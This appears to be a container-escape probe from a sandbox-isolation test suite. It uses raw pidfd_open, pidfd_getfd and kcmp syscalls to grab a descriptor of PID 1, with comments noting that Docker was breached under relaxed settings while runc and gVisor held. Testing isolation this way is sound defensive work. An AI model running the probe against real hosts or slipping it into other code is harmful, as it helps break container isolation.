# Tries: take a descriptor of PID 1 by pidfd_getfd, and compare its resources by kcmp
# Idea: CVE-2019-5736's kin with newer calls
# Docker: breached with --cap-add SYS_PTRACE --security-opt seccomp=unconfined
# runc: held
# gVisor: held
pidfd = call(434, 434, 1, 0)
every(("pidfd_getfd", call, 438, 438, pidfd, 0, 0), ("kcmp", call, 312, 272, 1, os.getpid(), 2, 0, 0))
